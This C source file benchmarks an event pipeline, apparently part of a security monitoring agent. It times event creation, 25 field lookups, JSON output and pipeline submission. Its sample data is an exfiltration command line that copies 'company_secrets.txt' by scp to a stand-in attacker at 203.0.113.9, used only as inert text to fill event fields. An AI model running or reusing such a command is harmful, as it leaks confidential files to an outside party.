/*
 * What one event costs: made, filled with 25 texts, given back; written as
 * JSON; sent through a pipeline. Beside it the price of one malloc and free
 * of the same size and of a copy of the same bytes, as the measure of the
 * machine. Prints nanoseconds per event.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "agent/core/pipeline.h"

#define ROUNDS	200000
#define TEXTS	25

static const enum field_id fields[TEXTS] = {
	FIELD_AGENT_ID, FIELD_AGENT_NAME, FIELD_AGENT_TYPE,
	FIELD_AGENT_VERSION, FIELD_CONTAINER_ID, FIELD_CONTAINER_IMAGE_NAME,
	FIELD_CONTAINER_NAME, FIELD_CONTAINER_RUNTIME, FIELD_ECS_VERSION,
	FIELD_EVENT_ACTION, FIELD_EVENT_ID, FIELD_EVENT_KIND,
	FIELD_EVENT_MODULE, FIELD_EVENT_OUTCOME, FIELD_EVENT_PROVIDER,
	FIELD_HOST_ID, FIELD_HOST_NAME, FIELD_PROCESS_COMMAND_LINE,
	FIELD_PROCESS_ENTITY_ID, FIELD_PROCESS_EXECUTABLE,
	FIELD_PROCESS_NAME, FIELD_PROCESS_WORKING_DIRECTORY, FIELD_USER_ID,
	FIELD_USER_NAME, FIELD_MESSAGE
};
static const char text[] =
    "/usr/bin/scp -P 22 company_secrets.txt mallory@203.0.113.9:/tmp/";

/* Kept from being optimised away. */
static volatile size_t sink_bytes;

static double
now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec * 1e9 + (double)ts.tv_nsec;
}

static struct event *
make(void)
{
	struct event *e = event_new(EVENT_PROCESS, (struct wall){ 1 });

	/* 4 to 64 bytes. */
	for (size_t i = 0; i < TEXTS; i++)
		event_set_str(e, fields[i], text, 4 + i * 60 / (TEXTS - 1));
	return e;
}

static void
run_malloc(void)
{
	void *p = malloc(4096);

	memcpy(p, text, sizeof(text));
	sink_bytes += ((char *)p)[sink_bytes % 8] != 0;
	free(p);
}

static void
run_make(void)
{
	event_unref(make());
}

static const struct event *sample;
static struct buf json;

static void
run_json(void)
{
	buf_reset(&json);
	event_write_json(sample, &json);
	sink_bytes += json.len;
}

static void
run_get(void)
{
	for (size_t i = 0; i < TEXTS; i++)
		sink_bytes += event_str(sample, fields[i])[0] != '\0';
}

static struct pipeline *pipeline;

static void
run_pipeline(void)
{
	pipeline_submit(pipeline, make());
}

static void
measure(const char *what, void (*fn)(void))
{
	double best = 1e18;

	for (int i = 0; i < 5; i++) {
		double start = now_ns(), took;

		for (int j = 0; j < ROUNDS / 5; j++)
			fn();
		took = (now_ns() - start) / (ROUNDS / 5);
		if (took < best)
			best = took;
	}
	printf("%-44s %7.0f ns\n", what, best);
}

static void
enrich(void *self, struct event *e, bool *hold)
{
	(void)self;
	(void)hold;
	event_set_num(e, FIELD_PROCESS_PID, 1);
}

static void
judge(void *self, const struct event *e)
{
	(void)self;
	sink_bytes += event_str(e, FIELD_PROCESS_NAME)[0] == 'x';
}

static bool
sink(void *self, const struct event *e)
{
	(void)self;
	event_unref(event_ref(e));
	return true;
}

int
main(void)
{
	struct mono_clock clock = { 0 };
	struct ledger *ledger = ledger_new();

	sample = make();
	buf_init(&json, 0);
	pipeline = pipeline_new(ledger, &clock);
	for (int i = 0; i < 3; i++)
		pipeline_add_enricher(pipeline, "enrich", enrich, NULL);
	pipeline_add_judge(pipeline, "judge", judge, NULL);
	pipeline_add_sink(pipeline, "sink", sink, NULL);
	measure("malloc and free of 4 KiB", run_malloc);
	measure("event made, 25 texts, given back", run_make);
	measure("25 fields looked up", run_get);
	measure("the same event written as JSON", run_json);
	printf("%-44s %7zu bytes\n", "length of that JSON", json.len);
	measure("made and through a pipeline", run_pipeline);
	pipeline_free(pipeline);
	ledger_free(ledger);
	buf_fini(&json);
	event_unref(sample);
	return 0;
}
